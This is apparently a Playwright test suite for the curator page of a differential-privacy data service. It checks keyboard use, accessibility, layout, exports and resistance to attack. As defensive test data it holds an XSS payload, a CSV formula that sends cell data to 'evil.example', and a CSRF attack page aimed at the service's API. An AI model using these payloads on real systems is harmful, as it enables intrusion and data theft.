"""The curator's page of a real service, in Chromium: by keyboard, for screen readers, on a phone, and under attack."""

from __future__ import annotations

import csv
import sqlite3
import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Literal

import pandas as pd
import pytest
from playwright.sync_api import Browser, Page, expect

from dpnb.curator.verification import verify
from dpnb.errors import DpnbError, ExecutionStopped
from dpnb.ledger.charge import result_hash
from dpnb.session.backup import back_up
from ui.accessible import problems
from ui.console import Console, keep_picture
from ui.curator import PARTS, Service, login
from waiting import LIMIT_MS, wait_until

pytestmark = [pytest.mark.ui, pytest.mark.waits]

HTML = "<img src=x onerror=\"globalThis.hit='why'\"><script>globalThis.hit='why'</script>"
LONG = f"{HTML} {'x' * 250} \u05e9\u05dc\u05d5\u05dd"
SCHEMES: tuple[Literal["dark", "light"], ...] = ("dark", "light")
WIDTHS = (360, 1200)
FORMULA = '=HYPERLINK("http://evil.example/"&A1)'


@pytest.fixture
def service(tmp_path: Path, chromium: str) -> Iterator[Service]:
    service = Service(tmp_path, visits=PARTS, claims="")
    with service.served():
        yield service


@pytest.fixture
def page(browser: Browser, service: Service) -> Iterator[Page]:
    """An empty page; the test fails if it complains or talks to the outside."""
    with opened_page(browser, service) as page:
        yield page


@contextmanager
def opened_page(browser: Browser, service: Service) -> Iterator[Page]:
    context = browser.new_context(viewport={"width": 1200, "height": 900}, accept_downloads=True)
    page = context.new_page()
    page.set_default_timeout(LIMIT_MS)
    console = Console(page, service.url)
    yield page
    context.close()
    assert not console.troubles


def frozen(service: Service, page: Page) -> bool:
    """Whether the page of a fresh login shows that the table is frozen."""
    page.reload()
    expect(page.get_by_role("heading", level=1)).to_have_text("visits")
    return page.get_by_text("Nothing can be charged").is_visible()


def width_of(page: Page) -> Any:
    return page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")


def overflows(page: Page) -> list[int]:
    """At which widths the page is wider than its window."""
    wider = []
    for width in WIDTHS:
        page.set_viewport_size({"width": width, "height": 800})
        wider += [width] if width_of(page) else []
    return wider


def hostile(service: Service) -> None:
    """Everything that an analyst can write."""
    ana = service.token("ana")
    service.request(ana, "visits", LONG)
    other = service.token("zoe.-" + "z" * 100)
    service.ask(other, "claims", lambda df: df.count().release(mu=0.1))


def test_a_curator_logs_in_and_freezes_a_table_by_keyboard_alone(page: Page, service: Service) -> None:
    page.goto(service.url)
    expect(page.get_by_label("Access token")).to_be_focused()
    page.keyboard.type(service.token("eve", "curator"))
    page.keyboard.press("Enter")
    freeze = page.get_by_role("button", name="Freeze visits")
    freeze.wait_for()
    for _ in range(20):
        page.keyboard.press("Tab")
        if freeze.evaluate("node => node === document.activeElement"):
            break
    page.keyboard.press("Enter")
    dialog = page.get_by_role("dialog", name="Freeze visits")
    expect(dialog.get_by_label("Reason")).to_be_focused()
    page.keyboard.press("Escape")
    expect(dialog).to_have_count(0)
    expect(freeze).to_be_focused()
    page.keyboard.press("Tab")  # next to it are the requests
    assert freeze.evaluate("node => !node.closest('section').contains(document.activeElement)")
    page.keyboard.press("Shift+Tab")
    page.keyboard.press("Enter")
    page.keyboard.type("an audit")
    for _ in range(6):  # the focus stays inside, or in the browser's own bars
        page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement === document.body || !!document.activeElement.closest('dialog')")
    dialog.get_by_role("button", name="Freeze").focus()
    page.keyboard.press("Enter")
    expect(page.get_by_text("Frozen: an audit. Nothing can be charged.")).to_be_visible()
    expect(page.get_by_role("button", name="Unfreeze visits")).to_be_focused()
    expect(page.get_by_role("status").filter(has_text="visits is frozen.")).to_be_visible()
    with pytest.raises(DpnbError, match="frozen"):
        service.ask(service.token("ana"), "visits", lambda df: df.count().release(mu=0.1))


def test_the_page_follows_analysts_and_says_when_it_cannot(browser: Browser, service: Service) -> None:
    page = browser.new_page()  # whose console says that the service is gone
    login(page, service, service.token("eve", "curator"))
    gauge = page.get_by_role("meter", name="Budget left")
    expect(gauge).to_have_attribute("aria-valuetext", "100.0% left")
    expect(page.get_by_text("Live", exact=True)).to_be_visible()
    ana = service.token("ana")
    service.ask(ana, "visits", lambda df: df.count().release(mu=0.1))
    expect(gauge).not_to_have_attribute("aria-valuetext", "100.0% left")
    expect(page.get_by_role("row").filter(has_text="count of rows").filter(has_text="ana")).to_have_count(2)
    service.stop()
    expect(page.get_by_text("Out of date since")).to_be_visible()
    page.close()


def test_a_request_is_approved_in_the_browser(page: Page, service: Service) -> None:
    login(page, service, service.token("eve", "curator"))
    ana = service.token("ana")
    with pytest.raises(DpnbError):
        service.ask(ana, "visits", lambda df: df.count().release(mu=0.2))
    service.request(ana, "visits", "The annual report needs a count.")
    request = page.get_by_role("article").filter(has_text="The annual report")
    expect(request).to_be_visible()
    expect(request.get_by_role("row").filter(has_text="count of rows")).to_contain_text("rows at 95% (noise)")
    for scheme in SCHEMES:
        page.emulate_media(color_scheme=scheme)
        keep_picture(page, f"curator-{scheme}", full_page=True)
    request.get_by_role("button", name="Approve…").click()
    dialog = page.get_by_role("dialog", name="Approve the request of ana")
    expect(dialog).to_contain_text("after an approval")
    dialog.get_by_label("Remark").fill("for the report")
    for scheme in SCHEMES:
        page.emulate_media(color_scheme=scheme)
        keep_picture(page, f"curator-dialog-{scheme}")
    dialog.get_by_role("button", name="Approve mu").click()
    expect(dialog).to_have_count(0)
    expect(page.get_by_text("No request is pending.")).to_be_visible()
    service.ask(ana, "visits", lambda df: df.count().release(mu=0.2))
    expect(
        page.get_by_role("row").filter(has_text="request approved").or_(page.get_by_text("approve"))
    ).not_to_have_count(0)


def test_hostile_texts_execute_nothing_and_break_no_layout(page: Page, service: Service) -> None:
    hostile(service)
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    login(page, service, service.token("eve", "curator"))
    request = page.get_by_role("article")
    expect(request).to_contain_text(HTML)
    expect(page.locator(".dpnb-log-row").filter(has_text="because: <img")).to_be_visible()
    assert page.evaluate("document.querySelectorAll('img, #cockpit script, iframe').length") == 0
    assert page.evaluate("globalThis.hit") is None
    assert overflows(page) == []
    request.get_by_role("button", name="Approve in part…").click()
    assert overflows(page) == []
    page.keyboard.press("Escape")
    page.get_by_role("link", name="claims").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("claims")
    expect(page.get_by_role("row").filter(has_text="zzz")).not_to_have_count(0)
    assert overflows(page) == []


def test_markup_would_be_seen(browser: Browser, service: Service) -> None:
    """Control of the above: the same text as markup executes where no policy forbids it, and not on this page."""
    context = browser.new_context()
    page = context.new_page()
    page.evaluate("text => { document.body.innerHTML = text; }", HTML.replace("src=x", "src='data:,'"))
    page.wait_for_function("globalThis.hit === 'why'")
    login(page, service, service.token("eve", "curator"))
    refused = page.evaluate("text => { try { document.body.innerHTML = text; } catch (e) { return e.name; } }", HTML)
    assert refused == "TypeError"
    assert page.evaluate("globalThis.hit") is None
    context.close()


def test_the_export_is_whole_and_no_formula(page: Page, service: Service) -> None:
    zoe = service.token("zoe")
    service.ask(zoe, "claims", *[lambda df, n=n: df[df["age"] > n].count().release(mu=0.01) for n in range(3)])
    service.scan(zoe, "claims", FORMULA)
    login(page, service, service.token("eve", "auditor"), "#claims")
    expect(page.get_by_role("row").filter(has_text="HYPERLINK")).not_to_have_count(0)
    with page.expect_download() as download:
        page.get_by_role("button", name="Export as CSV").click()
    with Path(download.value.path()).open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["actor"] for row in rows if row["actor"]][:3] == ["zoe"] * 3  # nobody requested the row of the files
    assert [row["id"] for row in rows] == [str(number) for number in range(1, len(rows) + 1)]
    assert any("HYPERLINK" in row["words"] for row in rows)
    assert not [field for row in rows for field in row.values() if field[:1] in "=+-@\t\r" and field]


def test_the_statement_is_what_the_ledger_says(page: Page, service: Service) -> None:
    zoe = service.token("zoe")
    service.ask(zoe, "claims", lambda df: df.count().release(mu=0.1))
    service.request(service.token("ana"), "visits", LONG)
    login(page, service, service.token("eve", "auditor"), "#visits")
    for table in ("visits", "claims"):
        page.get_by_role("link", name=table).click()
        expect(page.get_by_role("heading", level=1)).to_have_text(table)
        whole, ana = ("the whole table", table), ("the part of ana", f"{table}-ana")
        for form, (about, name) in (("html", whole), ("json", ana if table == "visits" else whole)):
            page.get_by_role("button", name="Statement…").click()
            if table == "visits":
                page.get_by_label("About").select_option(label=about)
            if form != "html":  # which is filled in
                page.get_by_label("Format").select_option(form)
            with page.expect_download() as download:
                page.get_by_role("button", name="Save", exact=True).click()
            assert download.value.suggested_filename == f"{name}-statement.{form}"
            report = str(Path(download.value.path()).rename(service.folder / download.value.suggested_filename))
            assert verify(report, str(service.folder / f"{table}.dpnb")).is_fine


def test_an_auditor_has_no_button_that_acts(page: Page, service: Service) -> None:
    service.request(service.token("ana"), "visits", "a reason")
    login(page, service, service.token("bob", "auditor"))
    expect(page.get_by_role("article")).to_contain_text("a reason")
    shown = page.get_by_role("button").all_inner_texts()
    assert shown == ["Log out", "Statement…", "Export as CSV", "Audit the ledger"]
    ledger = page.get_by_role("region", name="Ledger")
    expect(ledger).to_contain_text("No backup is known")
    back_up(str(service.folder / "visits.dpnb"), str(service.folder / "copies"))
    ledger.get_by_role("button", name="Audit the ledger").click()
    expect(ledger).to_contain_text("started by bob: no problem found.")
    expect(ledger).to_contain_text("Last backup: ")
    ledger.get_by_text("Result of the audit").click()
    expect(ledger.get_by_role("group", name="Result of the audit")).to_contain_text("No problem found.")
    expect(ledger.get_by_text("Figures of the service", exact=True)).to_be_hidden()


def test_axe_finds_no_problem(page: Page, service: Service) -> None:
    page.goto(service.url)
    check_everywhere(page)
    service.request(service.token("ana"), "visits", "a reason")
    login(page, service, service.token("eve", "curator"))
    page.get_by_role("article").wait_for()
    page.get_by_text("Figures of the service", exact=True).click()
    page.get_by_text("Versions of the table (1)").click()
    check_everywhere(page)
    page.get_by_role("button", name="Approve in part…").click()
    check_everywhere(page)
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Move the cap of ana").click()
    expect(page.get_by_label("Percent")).to_have_value("50")
    check_everywhere(page)


SIZES_OF_TEXTS = """() => {
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const sizes = [];
  while (walker.nextNode()) {
    const { textContent, parentElement } = walker.currentNode;
    if (textContent.trim() !== '' && parentElement.checkVisibility()) {
      sizes.push(parseFloat(getComputedStyle(parentElement).fontSize));
    }
  }
  return sizes;
}"""


def check_everywhere(page: Page) -> None:
    """Check the page at each width and in each scheme."""
    for width in WIDTHS:
        page.set_viewport_size({"width": width, "height": 800})
        for scheme in SCHEMES:
            page.emulate_media(color_scheme=scheme)
            assert problems(page, only_colours=scheme == "dark") == [], (width, scheme)
        assert min(page.evaluate(SIZES_OF_TEXTS)) >= 12, width
        assert width_of(page) == 0, width


def test_a_new_token_is_shown_once_and_works(page: Page, service: Service) -> None:
    old = service.token("ana")
    login(page, service, service.token("eve", "curator"))
    page.get_by_role("button", name="New token for ana").click()
    page.get_by_role("button", name="Revoke and make a new token").click()
    new = page.get_by_role("dialog", name="The new token of ana").get_by_label("Token").input_value()
    page.get_by_role("button", name="I have copied it").click()
    service.ask(new, "visits", lambda df: df.count().release(mu=0.1))
    with pytest.raises(DpnbError):
        service.ask(old, "visits", lambda df: df.count().release(mu=0.11))
    assert new not in page.content()


def test_people_come_and_go_on_the_page(page: Page, service: Service) -> None:
    login(page, service, service.token("eve", "curator"))

    def told(name: str) -> str:
        token = page.get_by_role("dialog", name=f"The new token of {name}").get_by_label("Token").input_value()
        page.get_by_role("button", name="I have copied it").click()
        return token

    page.get_by_role("button", name="Add analyst…").click()
    dialog = page.get_by_role("dialog")
    expect(dialog.get_by_label("Ceiling, in percent")).to_have_value("15.0")  # what is left
    assert problems(page) == []
    keep_picture(page, "cockpit-add")
    dialog.get_by_label("Name").fill("dora")
    dialog.get_by_role("button", name="Add", exact=True).click()
    dora = told("dora")
    page.get_by_role("button", name="Hand over the part of dora").click()
    dialog.get_by_label("To", exact=True).fill("ed")
    dialog.get_by_role("button", name="Hand over").click()
    service.ask(told("ed"), "visits", lambda df: df.count().release(mu=0.1))
    with pytest.raises(DpnbError):
        service.ask(dora, "visits", lambda df: df.count().release(mu=0.1))
    expect(page.get_by_role("button", name="Hand over the part of ed")).to_be_hidden()
    page.get_by_role("button", name="Remove ed").click()
    dialog.get_by_role("button", name="Remove").click()
    expect(page.get_by_role("button", name="Add ed again")).to_be_visible()
    keep_picture(page, "cockpit-people", full_page=True)


ATTACK = """<!doctype html><title>attack</title><iframe src="{0}/"></iframe>
<form id="form" method="post" enctype="text/plain" action="{0}/api/tables/visits/acts">
<input name='{{"act":"freeze","why":"' value='evil"}}'></form>
<script>
const body = '{{"act":"freeze","why":"evil"}}';
const send = (mode, headers) => fetch('{0}/api/tables/visits/acts', {{ method: 'POST', mode, headers, body,
  credentials: 'include' }}).then(r => r.status, e => e.name);
const read = mode => fetch('{0}/api/state', {{ mode, credentials: 'include' }}).then(r => r.text(), e => e.name);
Promise.all([send('no-cors', {{}}), send('cors', {{ 'content-type': 'application/json', 'x-csrf-token': 'x' }}),
  read('cors'), read('no-cors')]).then(all => {{ document.title = JSON.stringify(all); }});
</script>"""


def test_another_page_of_this_machine_can_do_and_see_nothing(browser: Browser, service: Service) -> None:
    """The same site: the browser sends it the cookie, which is not enough."""
    seen: list[str] = []

    class Attacker(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.headers.get("Cookie", ""))
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(ATTACK.format(service.url).encode())

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    context = browser.new_context()
    try:
        mine, other = context.new_page(), context.new_page()
        login(mine, service, service.token("eve", "curator"))
        other.goto(f"http://127.0.0.1:{server.server_port}/")
        wait_until(lambda: "[" in other.title(), "the replies to the attack")
        assert "dpnb-cockpit=" in seen[0]  # so the attack has the cookie
        assert "visits" not in other.title()
        assert other.title() == str(["TypeError"] * 4).replace("'", '"').replace(" ", "")  # nothing can be read
        assert other.frames[1].url.startswith("chrome-error:")
        other.evaluate("document.getElementById('form').submit()")
        other.wait_for_url("**/acts")
        assert not frozen(service, mine)
    finally:
        context.close()
        server.shutdown()
        server.server_close()


def test_the_words_say_what_a_name_is_made_from_and_the_whole_plan_is_shown_on_request(
    page: Page, service: Service
) -> None:
    ana = service.token("ana")
    towns = pd.DataFrame({"age": range(20, 80), "city": ["a", "b"] * 30})
    service.ask(
        ana,
        "visits",
        lambda df: df.merge(towns, on="age", how="left").groupby("city").size().release(mu=0.05),
        lambda df: df.assign(city=df["age"] > 65).groupby("city").size().release(mu=0.05),
    )
    service.request(ana, "visits", LONG)
    login(page, service, service.token("eve", "curator"))
    row = page.locator(".dpnb-log-row").filter(has_text="54 more")
    expect(row).to_contain_text("count of rows by city (made from age: {20: 'a', 21: 'b', ")
    expect(page.get_by_text("count of rows by city (made from age > 65)", exact=True)).not_to_have_count(0)
    asked = page.get_by_role("article").first
    for place, reads in ((row, '"reads": ["age"]'), (asked, '"reads": []')):
        summary = place.get_by_text("Whole plan")
        summary.focus()
        page.keyboard.press("Enter")  # by keyboard
        expect(place.locator("pre")).to_contain_text(reads)
        expect(place.locator("pre")).to_contain_text('"plan": ')
    expect(asked.locator("pre")).to_contain_text('"target": {"kind": "mu", "amount": "1/5"}')
    assert width_of(page) == 0
    asked.scroll_into_view_if_needed()
    keep_picture(page, "cockpit-plan", full_page=True)
    assert problems(page) == []


def test_a_charge_that_a_crash_interrupted_is_resumed(browser: Browser, service: Service) -> None:
    ana = service.token("ana")
    service.ask(ana, "visits", lambda df: df.count().release(mu=0.05))
    service.stop()
    row = lose_the_answer(service.folder / "visits.dpnb")
    with service.served(), opened_page(browser, service) as page:
        with pytest.raises(ExecutionStopped):
            service.ask(ana, "visits", lambda df: df.count().release(mu=0.05))
        login(page, service, service.token("eve", "curator"))
        stopped = page.get_by_role("region", name="Running and stopped")
        expect(stopped).to_contain_text("count of rows")
        keep_picture(page, "cockpit-stopped", full_page=True)
        stopped.get_by_role("button", name=f"Resume row {row}").click()
        dialog = page.get_by_role("dialog", name=f"Resume row {row} of ana")
        expect(dialog).to_contain_text("for the same charge")
        dialog.get_by_role("button", name="Resume", exact=True).click()
        expect(stopped).to_be_hidden()
        service.ask(ana, "visits", lambda df: df.count().release(mu=0.05))


def lose_the_answer(ledger: Path) -> int:
    """Leave the last release as a kill leaves it that comes before the answer is written; return its row."""
    with closing(sqlite3.connect(ledger)) as connection, connection:
        row, chained = connection.execute(
            "SELECT id, hash FROM events WHERE kind = 'release' ORDER BY id DESC LIMIT 1"
        ).fetchone()
        connection.execute(
            "UPDATE events SET status = 'reserved', result = NULL, words = NULL, salt = NULL, answer_digest = NULL, "
            "result_hash = ? WHERE id = ?",
            (result_hash(chained, "reserved", None), row),
        )
    return int(row)
